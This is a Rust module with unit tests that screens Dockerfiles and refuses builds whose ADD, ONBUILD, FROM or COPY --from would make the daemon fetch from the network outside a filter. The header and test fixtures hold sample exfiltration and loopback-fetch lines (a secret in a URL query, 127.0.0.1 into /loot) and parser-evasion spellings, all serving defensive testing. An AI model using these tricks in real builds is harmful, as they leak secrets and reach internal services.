//! The Dockerfile of a classic build, read before the daemon gets the end of the context.
//!
//! *Why*: the classic builder does some things for the build in the daemon's own process, on
//! the host's network, with no proxy: `ADD <URL>` downloads the URL (a blocked host gets the
//! path and query, a service on the host's loopback or the cloud's metadata address is read
//! into the image, a failed fetch's answer comes back in the error), `FROM` and `COPY --from`
//! of an image that is not on the host pull it from its registry, and `ONBUILD` plants
//! instructions that a later build runs. None of these is judged by the filter, so the build is
//! refused: no `ADD` of a URL or of a variable (which may expand to one), no `ONBUILD`, and the
//! images the build starts from are handed back for the gateway to find on the daemon.
//!
//! The reader is conservative where Docker's parser could read a text otherwise: the file is
//! read with both escape characters (`\` and `` ` ``, whatever the `# escape=` directive says),
//! and every physical line that begins with `ADD`, `ONBUILD`, `FROM` or `COPY` is judged as an
//! instruction too, even where it continues another.

use std::collections::BTreeMap;

use super::{Refusal, Verdict};

/// The largest Dockerfile the gateway reads.
pub const MAX_DOCKERFILE: usize = 4 << 20;

/// What the gateway must check on the daemon before the build may start: each image the build
/// starts from (`FROM`, `COPY --from`) must be on the host already (so the daemon pulls
/// nothing) and carry no `ONBUILD` triggers.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Plan {
    pub images: Vec<String>,
}

/// The paths in the context the daemon may read as the Dockerfile, from the `dockerfile` query
/// value (empty: `Dockerfile`): the path itself, cleaned, and for the default name the
/// lower-case `dockerfile` the daemon falls back to.
pub fn paths(query: &[(String, String)]) -> Verdict<Vec<String>> {
    let given: Vec<&str> = query.iter().filter(|(k, _)| k == "dockerfile").map(|(_, v)| v.as_str()).collect();
    if given.len() > 1 {
        return Err(Refusal::new("build", "the build names its Dockerfile more than once"));
    }
    let raw = given.first().copied().filter(|v| !v.is_empty()).unwrap_or("Dockerfile");
    let clean = clean_path(raw.as_bytes())
        .filter(|p| !p.is_empty())
        .and_then(|p| String::from_utf8(p).ok())
        .ok_or_else(|| {
            Refusal::new("build", format!("the Dockerfile path {raw:?} is not a path inside the context"))
        })?;
    let mut out = vec![clean];
    if raw == "Dockerfile" {
        out.push("dockerfile".into());
    }
    Ok(out)
}

/// A path of the context as the daemon places it under the context's root: no empty or `.`
/// components, no leading `/`; `None` if a component is `..`.
pub fn clean_path(raw: &[u8]) -> Option<Vec<u8>> {
    let mut parts: Vec<&[u8]> = Vec::new();
    for part in raw.split(|b| *b == b'/') {
        match part {
            b"" | b"." => {}
            b".." => return None,
            p => parts.push(p),
        }
    }
    Some(parts.join(&b'/'))
}

/// Whether the query asks for a pull or a platform (a local image of another platform is
/// pulled again): either makes the daemon fetch from a registry.
pub fn query(query: &[(String, String)]) -> Verdict<()> {
    for (k, v) in query {
        let v = v.trim().to_ascii_lowercase();
        if k == "pull" && !matches!(v.as_str(), "" | "0" | "no" | "false" | "none") {
            return Err(Refusal::new(
                "build",
                "--pull makes the daemon fetch the base image from its registry, outside the filter",
            )
            .allow("pull it first (docker pull IMAGE), then build without --pull"));
        }
        if k == "platform" && !v.is_empty() {
            return Err(Refusal::new(
                "build",
                "--platform may make the daemon fetch the base image from its registry, outside the filter",
            )
            .allow("build without --platform"));
        }
    }
    Ok(())
}

/// The build arguments of the query (`buildargs`, JSON), for `ARG`s before the first `FROM`.
pub fn build_args(query: &[(String, String)]) -> BTreeMap<String, Option<String>> {
    query
        .iter()
        .find(|(k, _)| k == "buildargs")
        .and_then(|(_, v)| serde_json::from_str::<BTreeMap<String, Option<String>>>(v).ok())
        .unwrap_or_default()
}

/// The verdict on a Dockerfile's text.
pub fn judge(text: &[u8], args: &BTreeMap<String, Option<String>>) -> Verdict<Plan> {
    let text = String::from_utf8_lossy(text);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let lines: Vec<&str> = text.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l)).collect();
    let mut plan = Plan::default();
    for escape in ['\\', '`'] {
        for image in stage_images(&lines, escape, args)? {
            if !plan.images.contains(&image) {
                plan.images.push(image);
            }
        }
    }
    Ok(plan)
}

/// One instruction: the physical line it starts on, its text with continuations joined, and
/// whether it is a logical line of the parse (not a line judged only for its first word).
struct Instruction {
    line: usize,
    text: String,
    logical: bool,
}

fn stage_images(
    lines: &[&str],
    escape: char,
    args: &BTreeMap<String, Option<String>>,
) -> Verdict<Vec<String>> {
    let mut all = logical(lines, escape);
    let starts: Vec<usize> = all.iter().map(|i| i.line).collect();
    for (n, l) in lines.iter().enumerate() {
        let word = l.trim_start().split(is_blank).next().unwrap_or_default().to_ascii_lowercase();
        if matches!(word.as_str(), "add" | "onbuild" | "from" | "copy") && !starts.contains(&n) {
            let (text, _) = join(lines, n, escape);
            all.push(Instruction { line: n, text, logical: false });
        }
    }
    all.sort_by_key(|i| i.line);
    let mut stages: Vec<String> = Vec::new();
    let mut meta: BTreeMap<String, String> = BTreeMap::new();
    let mut images = Vec::new();
    let at = |i: &Instruction, what: String| {
        Refusal::new("build", format!("Dockerfile line {}: {what}", i.line + 1))
    };
    for ins in &all {
        let text = ins.text.trim();
        let (word, rest) = text.split_once(is_blank).unwrap_or((text, ""));
        let rest = rest.trim();
        if !word.is_ascii() {
            return Err(at(ins, format!("the instruction {word:?} is not ASCII")));
        }
        match word.to_ascii_lowercase().as_str() {
            "onbuild" => {
                return Err(at(ins, "ONBUILD plants instructions a later build runs unseen".into())
                    .allow("run those steps in this Dockerfile"));
            }
            "add" => add(rest, escape).map_err(|w| at(ins, w))?,
            "arg" if stages.is_empty() && ins.logical => {
                for decl in words(rest) {
                    let (name, default) = decl.split_once('=').unwrap_or((decl, ""));
                    let value = match args.get(name) {
                        Some(Some(v)) => v.clone(),
                        _ => default.to_string(),
                    };
                    meta.insert(name.to_string(), value);
                }
            }
            "from" => {
                let w = words(rest);
                if w.iter().any(|w| w.starts_with("--")) {
                    return Err(at(ins, "FROM --platform may make the daemon pull the image".into())
                        .allow("FROM without --platform"));
                }
                let name =
                    expand(w.first().copied().unwrap_or_default(), &meta, escape).map_err(|e| at(ins, e))?;
                let lower = name.to_ascii_lowercase();
                if lower != "scratch" && !stages.contains(&lower) {
                    images.push(image(&name).map_err(|e| at(ins, e))?);
                }
                if ins.logical {
                    let alias = match w.as_slice() {
                        [_, as_, alias] if as_.eq_ignore_ascii_case("as") => alias.to_ascii_lowercase(),
                        _ => String::new(),
                    };
                    stages.push(alias);
                }
            }
            "copy" => {
                for w in flags(rest) {
                    let Some(from) = w.strip_prefix("--from=") else { continue };
                    if from.contains('$') {
                        return Err(at(
                            ins,
                            format!("COPY --from={from}: a variable may name an image to pull"),
                        ));
                    }
                    let lower = from.to_ascii_lowercase();
                    if !stages.contains(&lower) && lower.parse::<usize>().is_err() {
                        images.push(image(from).map_err(|e| at(ins, e))?);
                    }
                }
            }
            _ => {}
        }
    }
    Ok(images)
}

/// `ADD`'s sources: no URL (the daemon downloads it), no variable (it may expand to one).
fn add(rest: &str, escape: char) -> Result<(), String> {
    let list: Vec<String> = match rest.strip_prefix('[').and(serde_json::from_str::<Vec<String>>(rest).ok()) {
        Some(list) => list,
        None => words(rest).into_iter().map(str::to_string).collect(),
    };
    // Quotes and the escape character go before a word is used: `"http://x"` is a URL.
    let plain: Vec<String> = list.iter().map(|w| unquote(w, escape)).collect();
    for (i, w) in plain.iter().enumerate() {
        let lower = w.to_ascii_lowercase();
        if lower.contains("://") || lower.starts_with("git@") {
            return Err(format!(
                "ADD {w}: the daemon downloads it itself, on the host's network, outside the filter; \
                 download it in a RUN step (which goes through the filter) or in the sandbox and COPY it"
            ));
        }
        let source = i + 1 < plain.len() && !w.starts_with("--");
        if source && w.contains('$') {
            return Err(format!(
                "ADD {w}: a variable may expand to a URL the daemon downloads outside the filter; \
                 write the path, or use COPY"
            ));
        }
    }
    Ok(())
}

/// A FROM image with the meta `ARG`s expanded: only `$NAME` and `${NAME}` of declared ones.
fn expand(word: &str, meta: &BTreeMap<String, String>, escape: char) -> Result<String, String> {
    if word.contains(['"', '\'', escape]) {
        return Err(format!("FROM {word}: quotes or escapes in an image name"));
    }
    let mut out = String::new();
    let mut rest = word;
    while let Some(i) = rest.find('$') {
        out += &rest[..i];
        let after = &rest[i + 1..];
        let (name, tail) = match after.strip_prefix('{') {
            Some(b) => match b.split_once('}') {
                Some((n, t)) => (n, t),
                None => return Err(format!("FROM {word}: an unclosed ${{")),
            },
            None => {
                let end =
                    after.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(after.len());
                (&after[..end], &after[end..])
            }
        };
        let value = meta.get(name).filter(|_| !name.is_empty()).ok_or_else(|| {
            format!("FROM {word}: only ${{NAME}} of an ARG declared before the first FROM is read here")
        })?;
        out += value;
        rest = tail;
    }
    out += rest;
    Ok(out)
}

/// An image name as the gateway asks the daemon about it.
fn image(name: &str) -> Result<String, String> {
    let ok = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"._:/@-".contains(&b));
    if ok {
        Ok(name.to_string())
    } else {
        Err(format!("{name:?} is not an image name the gateway can check"))
    }
}

/// The leading `--flag=value` words of an instruction as Docker's parser splits them: quotes
/// keep blanks in a word (and are dropped here), `\\` escapes the next character.
fn flags(rest: &str) -> Vec<String> {
    let chars: Vec<char> = rest.chars().collect();
    let (mut words, mut word) = (Vec::new(), String::new());
    let (mut quote, mut in_word, mut i) = (None, false, 0);
    while i < chars.len() {
        let c = chars[i];
        i += 1;
        if !in_word {
            if c.is_whitespace() {
                continue;
            }
            if c != '-' || chars.get(i) != Some(&'-') {
                return words;
            }
            in_word = true;
        }
        match (quote, c) {
            (None, c) if c.is_whitespace() => {
                words.push(std::mem::take(&mut word));
                in_word = false;
            }
            (None, '"' | '\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, '\\') | (Some('"'), '\\') => {
                if let Some(n) = chars.get(i) {
                    word.push(*n);
                    i += 1;
                }
            }
            (_, c) => word.push(c),
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

fn is_blank(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\x0b' | '\x0c' | '\r')
}

fn words(s: &str) -> Vec<&str> {
    s.split(is_blank).filter(|w| !w.is_empty()).collect()
}

fn unquote(w: &str, escape: char) -> String {
    w.chars().filter(|c| !matches!(c, '"' | '\'') && *c != escape && *c != '\\').collect()
}

/// The logical lines as Docker's parser joins them with `escape`: comment lines dropped, a
/// line ending in the escape character (and blanks) continued by the next non-comment,
/// non-empty line.
fn logical(lines: &[&str], escape: char) -> Vec<Instruction> {
    let mut out = Vec::new();
    let mut n = 0;
    while n < lines.len() {
        let first = lines[n].trim_start();
        if first.starts_with('#') || first.is_empty() {
            n += 1;
            continue;
        }
        let (text, next) = join(lines, n, escape);
        if !text.trim().is_empty() {
            out.push(Instruction { line: n, text, logical: true });
        }
        n = next;
    }
    out
}

/// The instruction starting on line `n`, and the line after it.
fn join(lines: &[&str], n: usize, escape: char) -> (String, usize) {
    let (mut text, mut more) = cont(lines[n].trim_start(), escape);
    let mut i = n + 1;
    while more && i < lines.len() {
        let l = lines[i];
        i += 1;
        if l.trim_start().starts_with('#') || l.trim().is_empty() {
            continue;
        }
        let (t, m) = cont(l, escape);
        text += &t;
        more = m;
    }
    (text, i)
}

/// A line without its continuation (the escape character and blanks at its end), and whether
/// it had one.
fn cont(line: &str, escape: char) -> (String, bool) {
    let trimmed = line.trim_end_matches([' ', '\t']);
    match trimmed.strip_suffix(escape) {
        Some(t) => (t.to_string(), true),
        None => (line.to_string(), false),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(text: &str) -> Refusal {
        judge(text.as_bytes(), &BTreeMap::new()).expect_err(text)
    }

    fn images(text: &str, args: &[(&str, &str)]) -> Vec<String> {
        let args = args.iter().map(|(k, v)| (k.to_string(), Some(v.to_string()))).collect();
        judge(text.as_bytes(), &args).unwrap_or_else(|e| panic!("{text}: {e:?}")).images
    }

    #[test]
    fn add_of_a_url_or_a_variable_is_refused_in_every_spelling() {
        for text in [
            "FROM b\nADD http://www.example.com/?secret=S /x\n",
            "FROM b\nadd https://x/y /z",
            "FROM b\nAdD --checksum=sha256:00 http://x/y /z",
            "FROM b\nADD --chown=1:1 http://127.0.0.1:8099/ /loot",
            "FROM b\nADD [\"http://x/y\", \"/y\"]",
            "FROM b\nADD [\"--chown=1\", \"h\\u0074tp://x/y\", \"/y\"]",
            "FROM b\nADD \"http://x/y\" /y",
            "FROM b\nADD ht\"tp://\"x /y",
            "FROM b\nADD http:\\/\\/x /y",
            "FROM b\nADD \\\n  http://x/y \\\n  /y",
            "FROM b\nADD \\\n# a comment\n\n  http://x/y /y",
            "# escape=`\nFROM b\nADD `\n  http://x/y /y",
            "FROM b\nADD $URL /x",
            "FROM b\nADD ${URL} /x",
            "FROM b\nADD [\"$URL\", \"/x\"]",
            "FROM b\nADD git@github.com:x/y.git /src",
            "FROM b\nADD https://github.com/x/y.git#main /src",
            "  \t ADD http://x /y",
            // A line Docker may read as an instruction where this reader sees a continuation.
            "# escape=`\nFROM b\nRUN echo \\\nADD http://x /y",
            "FROM b\nRUN echo `\nADD http://x /y",
            "\u{feff}FROM b\r\nADD http://x /y\r\n",
        ] {
            let r = refused(text);
            assert_eq!(r.rule, "build", "{text}");
            assert!(r.what.contains("ADD"), "{text}: {}", r.what);
        }
        // The reason names the line and the way to do it.
        let r = refused("FROM b\n\nADD http://x/y /y");
        assert!(
            r.what.starts_with("Dockerfile line 3: ADD http://x/y: the daemon downloads it"),
            "{}",
            r.what
        );
    }

    #[test]
    fn onbuild_is_refused_in_any_case_and_non_ascii_instructions_too() {
        for text in
            ["FROM b\nONBUILD RUN true", "FROM b\nonbuild ADD http://x /y", "FROM b\nOnBuild \\\n COPY a b"]
        {
            assert!(refused(text).what.contains("ONBUILD"), "{text}");
        }
        // Go lower-cases İ to i: `ONBUİLD` would be ONBUILD to Docker.
        assert!(refused("FROM b\nONBU\u{130}LD RUN x").what.contains("not ASCII"));
    }

    #[test]
    fn local_files_copy_and_run_pass_and_name_their_base_images() {
        let text = "# escape=\\\nARG BASE=busybox:1\nFROM $BASE AS build\nCOPY --chown=1:1 src/ /src/\n\
                    ADD app.tar.gz /opt/\nADD [\"a b\", \"/c\"]\nRUN wget -O /x http://example.com/x \\\n && true\n\
                    FROM ${BASE}\nCOPY --from=build /src /src\nCOPY --from=0 /src /src2\n\
                    COPY --from=tools:2 /bin/t /t\nADD file /opt/$DIR/\nFROM scratch\n";
        assert_eq!(images(text, &[]), ["busybox:1", "tools:2"]);
        // Quotes keep a flag's blanks: the next flag is still a flag.
        assert_eq!(images("FROM b\nCOPY --chown=\"a b\" --from=evil:1/x s d", &[]), ["b", "evil:1/x"]);
        // A build argument overrides the ARG's default.
        assert_eq!(
            images("ARG B=x\nFROM $B", &[("B", "registry.example:5000/y")]),
            ["registry.example:5000/y"]
        );
        // An image named before a stage of that name is an image.
        assert_eq!(images("FROM foo\nFROM busybox AS foo\nFROM foo\n", &[]), ["foo", "busybox"]);
    }

    #[test]
    fn base_images_that_cannot_be_checked_are_refused() {
        for text in [
            "FROM $UNDECLARED",
            "ARG B\nFROM ${B:-127.0.0.1:8099/x}",
            "FROM \"busybox\"",
            "FROM --platform=linux/arm64 busybox",
            "FROM b\nCOPY --from=$X /a /b",
            "FROM b\nCOPY --from=\"a b\" /a /b",
            "FROM b\nCOPY --from=\"\\$X\" /a /b",
        ] {
            assert_eq!(refused(text).rule, "build", "{text}");
        }
    }

    #[test]
    fn the_dockerfile_path_and_the_query() {
        let q =
            |v: &[(&str, &str)]| v.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect::<Vec<_>>();
        assert_eq!(paths(&q(&[])).unwrap(), ["Dockerfile", "dockerfile"]);
        assert_eq!(paths(&q(&[("dockerfile", "./sub//Dockerfile.dev")])).unwrap(), ["sub/Dockerfile.dev"]);
        assert_eq!(paths(&q(&[("dockerfile", ".dockerfile.a1b2")])).unwrap(), [".dockerfile.a1b2"]);
        assert_eq!(paths(&q(&[("dockerfile", "/Dockerfile")])).unwrap(), ["Dockerfile"]);
        for bad in [
            &[("dockerfile", "../x")][..],
            &[("dockerfile", "a"), ("dockerfile", "b")],
            &[("dockerfile", "/")],
        ] {
            assert_eq!(paths(&q(bad)).unwrap_err().rule, "build", "{bad:?}");
        }
        assert!(query(&q(&[("pull", "0"), ("pull", "false"), ("platform", "")])).is_ok());
        assert!(query(&q(&[("pull", "1")])).is_err());
        assert!(query(&q(&[("pull", "True")])).is_err());
        assert!(query(&q(&[("platform", "linux/arm64")])).is_err());
        assert_eq!(
            build_args(&q(&[("buildargs", r#"{"A":"1","B":null}"#)])).get("A"),
            Some(&Some("1".into()))
        );
    }
}
